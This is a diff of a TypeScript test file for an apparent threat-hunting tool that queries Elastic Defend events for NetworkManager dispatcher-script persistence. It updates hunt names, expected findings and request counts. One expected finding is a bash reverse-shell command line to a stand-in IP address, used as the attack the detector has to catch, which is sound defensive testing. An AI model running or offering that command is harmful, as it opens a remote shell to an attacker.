@@ -17,7 +17,7 @@ const API_KEY = 'dGVzdDprZXk=';
 const PROCESS = 'logs-endpoint.events.process-default';
 const FILE = 'logs-endpoint.events.file-default';
 const daysAgo = (d: number) => new Date(NOW - d * 86_400_000).toISOString();
-const child = huntById('dispatcher-child-process')!;
+const child = huntById('dispatcher-script-child')!;
 const write = huntById('dispatcher-script-write')!;
 
 /** A handful of hand-written Elastic Defend events: one attack in each hunt, and noise. */
@@ -48,14 +48,14 @@ for (const major of [8, 9] as const) {
       await withCluster(major, {}, async (es) => {
         const childRows = await runner(es.url).run(child);
         assert.deepEqual(childRows.findings.map((f) => f.identity), [{
-          'process.parent.executable': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
+          parent_script: '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh',
           'process.executable': '/usr/bin/bash',
-          'process.command_line': "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
+          masked_command_line: "bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'",
         }]);
         assert.deepEqual(childRows.findings[0]!.hostNames, ['web-03']);
         assert.equal(childRows.findings[0]!.firstSeen, daysAgo(1));
         const writeRows = await runner(es.url).run(write);
-        assert.deepEqual(writeRows.findings.map((f) => f.identity), [{ 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash' }]);
+        assert.deepEqual(writeRows.findings.map((f) => f.identity), [{ 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash', agent: 'agent-web-03', 'file.hash.sha256': null }]);
         assert.equal(writeRows.partial, false);
         assert.equal(writeRows.truncated, false);
         assert.equal(es.requests[0]!.headers['content-encoding'], 'gzip', 'the client compresses request bodies and the stand-in reads them');
@@ -117,7 +117,7 @@ for (const major of [8, 9] as const) {
       try {
         const rows = await runner(es.url).run(child);
         assert.equal(rows.findings.length, 1, 'retried after the 503 and answered by the cluster');
-        assert.equal(es.requests.length, 2);
+        assert.equal(es.requests.length, 3, 'the 503, its retry, then the samples of the rare group');
       } finally {
         await es.close();
       }
@@ -131,7 +131,9 @@ describe('the async ES|QL API', () => {
     await withCluster(9, { queryDurationMs: 1_500 }, async (es) => {
       const rows = await runner(es.url, 200).run(child);
       assert.equal(rows.findings.length, 1);
-      const calls = es.requests.map((r) => `${r.method} ${r.path.split('?')[0]!.replace(/\/_query\/async\/.+/, '/_query/async/{id}')}`);
+      const all = es.requests.map((r) => `${r.method} ${r.path.split('?')[0]!.replace(/\/_query\/async\/.+/, '/_query/async/{id}')}`);
+      // The rare groups first (then the same again for their samples).
+      const calls = all.slice(0, all.indexOf('DELETE /_query/async/{id}') + 1);
       assert.deepEqual(calls.slice(0, 2), ['POST /_query', 'POST /_query/async']);
       assert.ok(calls.slice(2, -1).every((c) => c === 'GET /_query/async/{id}') && calls.length >= 4, calls.join(', '));
       assert.equal(calls.at(-1), 'DELETE /_query/async/{id}');
